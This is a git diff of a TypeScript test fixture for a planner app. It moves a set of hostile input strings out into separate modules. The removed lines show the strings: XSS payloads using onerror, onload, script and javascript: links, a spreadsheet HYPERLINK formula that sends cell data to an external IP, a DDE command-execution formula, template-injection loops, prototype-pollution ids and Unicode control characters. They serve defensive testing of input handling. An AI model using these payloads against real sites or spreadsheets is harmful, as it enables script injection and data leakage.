@@ -9,41 +9,11 @@ import {
   type Membership,
 } from '#shared/domain/members/member';
 import { type OnboardingStep, stepTitleLimit } from '#shared/domain/onboarding/onboarding';
-import { defaultRhythm } from '#shared/domain/planner/rhythm';
 import { inputKinds, type ScriptInput } from '#shared/domain/scripts/script-inputs';
 import type { DataTableName } from '#shared/domain/store/data-tables';
 import { joinPieces } from '../../vault/vault-harness';
-
-/** Whatever of these becomes an element carries the class `pwned`; whatever of these runs sets `window.hacked`. */
-export const hostileTexts = {
-  image: '<img class=pwned src=x onerror="window.hacked=1">',
-  script: '</textarea></title><script class=pwned>window.hacked=1</script>',
-  vector: '"><svg class=pwned onload="window.hacked=1"><script>window.hacked=1</script></svg>',
-  link: '<a class=pwned href="javascript:window.hacked=1">点我</a>',
-  address: 'javascript:window.hacked=1//',
-  markdown: '[点我](javascript:window.hacked=1) ![x](https://203.0.113.9/a.png) | `a`',
-  style: '<style class=pwned>*{background:url(https://203.0.113.9/b.png)}</style>',
-  frame: '<iframe class=pwned srcdoc="<script>parent.hacked=1</script>"></iframe>',
-  formula: '=HYPERLINK("https://203.0.113.9/?"&A1,"点我")',
-  command: "@SUM(1+1)*cmd|' /C calc'!A0",
-  liquid: '{{ 昵称 | append: 群名 }}{% for i in (1..999999999) %}x{% endfor %}',
-  prototype: '{{ constructor.constructor }}{{ 昵称.__proto__ }}',
-  marks: '\u202E反着写\u2066藏起来\u200F',
-  controls: '前\u0000中\u0007\u001B[31m后\uFFFE',
-  surrogate: '半个\uD83D字\uDE00符',
-  family: '👩‍👩‍👧‍👦👩🏽‍🔬🏳️‍🌈',
-  long: '长'.repeat(60),
-  longest: '名'.repeat(200),
-  own: '__proto__',
-  maker: 'constructor',
-} as const;
-
-const everyText = Object.values(hostileTexts);
-/** Ids that name what every object inherits are ids like any others. */
-const inheritedNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
-
-const idOf = (index: number) => inheritedNames[index] ?? `row-${index}`;
-const textAt = (index: number) => everyText[index % everyText.length] ?? '';
+import { addHostilePlanner, hostileRhythm } from './hostile-planner';
+import { everyText, hostileTexts, idOf, textAt } from './hostile-texts';
 
 /** A snapshot that its own gate lets through, with a hostile text in every field of every table. */
 export function hostileSnapshot(today: Day): Uint8Array<ArrayBuffer> {
@@ -57,7 +27,6 @@ export function hostileSnapshot(today: Day): Uint8Array<ArrayBuffer> {
   const communityId = '__proto__';
   const groupId = 'constructor';
   const stamps = { createdAt: 1, updatedAt: 1 };
-  const time = timeOfDay('08:00');
   const add = (table: DataTableName, rows: readonly object[]) => writer.add(table, rows);
   const forEvery = <Row extends object>(make: (text: string, index: number) => Row): readonly Row[] =>
     everyText.map((text, index) => make(text, index));
@@ -211,75 +180,7 @@ export function hostileSnapshot(today: Day): Uint8Array<ArrayBuffer> {
       part: position === 9 ? { at: Number.MAX_SAFE_INTEGER, of: 2 } : null,
     })),
   );
-  add(
-    'plannerItems',
-    forEvery((text, index) => ({
-      ...{ id: idOf(index), communityId, seriesId: null, day: today, time, title: text, body: text },
-      ...{
-        kind: '锦囊',
-        status: 'ready',
-        groupIds: [groupId],
-        sentAt: index % 3 === 0 ? 1 : null,
-        ...stamps,
-      },
-      ...{ origin: 'repost', source: text, contributor: text, contributorId: idOf(index), topic: text },
-      ...{ materialIds: [idOf(index)], variants: [{ groupId, body: text }], starred: true, domain: text },
-      ...{
-        number: index,
-        occurrence: today,
-        overrides: ['day'],
-        host: { memberId: idOf(index), name: text },
-      },
-      feedback: {
-        ...{ replies: 1e6, questions: 0, favourites: null, shares: 1, bestComment: text },
-        ...{ privateNote: text, poll: text, source: 'import', at: 1 },
-      },
-      skippedAt: null,
-      template: { templateId: idOf(index), week: today },
-    })),
-  );
-  add(
-    'plannerSeries',
-    forEvery((text, index) => ({
-      ...{ id: idOf(index), communityId, name: text, rule: hostileRules[index % hostileRules.length], time },
-      ...{
-        startsOn: today,
-        ends: { kind: 'never' },
-        kind: '锦囊',
-        titlePattern: `${text}{编号}`.slice(0, 500),
-      },
-      ...{ digits: 6, startNumber: 0, body: text, groupIds: [groupId], onStatutory: 'move', onFolk: 'skip' },
-      rotation: {
-        hosts: [{ memberId: idOf(index), name: text, domains: [text], away: [], share: 1 }],
-        domains: [text],
-        coolDownDays: 1,
-      },
-      ...{ skips: [{ day: today, burn: true }], plannedUntil: today, ...stamps },
-    })),
-  );
-  add(
-    'materials',
-    forEvery((text, index) => ({
-      ...{
-        id: idOf(index),
-        communityId,
-        title: text,
-        body: text,
-        url: text,
-        source: text,
-        contributor: text,
-      },
-      ...{ form: 'link', category: '热点', file: null, thumbnail: '', contributorId: idOf(index) },
-      ...{ consent: 'none', expiresOn: null, restDays: 1, archivedAt: null, ...stamps },
-    })),
-  );
-  add(
-    'planTemplates',
-    forEvery((text, index) => ({
-      ...{ id: idOf(index), communityId, name: text, ...stamps },
-      entries: [{ weekday: 1, time, kind: '早安', title: text, body: text, groupIds: [groupId] }],
-    })),
-  );
+  addHostilePlanner(add, { communityId, groupId, today });
   add('activities', [hostileActivity(today, stamps)]);
   add(
     'tasks',
@@ -297,25 +198,6 @@ export function hostileSnapshot(today: Day): Uint8Array<ArrayBuffer> {
   ]);
   return joinPieces(writer.finish().pieces);
 }
-
-/** Rules that would run for ever, say nothing, or name what every object inherits. */
-const hostileRules = [
-  'FREQ=SECONDLY',
-  'FREQ=DAILY;INTERVAL=0',
-  'FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=31',
-  'FREQ=constructor;BYDAY=__proto__',
-  'FREQ=WEEKLY;BYDAY=MO,WE,FR,SU',
-  hostileTexts.image,
-] as const;
-
-const hostileRhythm = {
-  ...defaultRhythm,
-  slots: defaultRhythm.slots.map((slot, index) => ({ ...slot, name: textAt(index) })),
-  ownDays: everyText.map((name, index) => ({
-    ...{ name, month: 2, dayOfMonth: 30, year: null, lunar: index % 2 === 0 },
-  })),
-  hiddenDays: everyText,
-};
 
 const hostileSteps: readonly OnboardingStep[] = ['constructor', 'toString', 'custom', 'wechatId'].map(
   (id, index) => ({
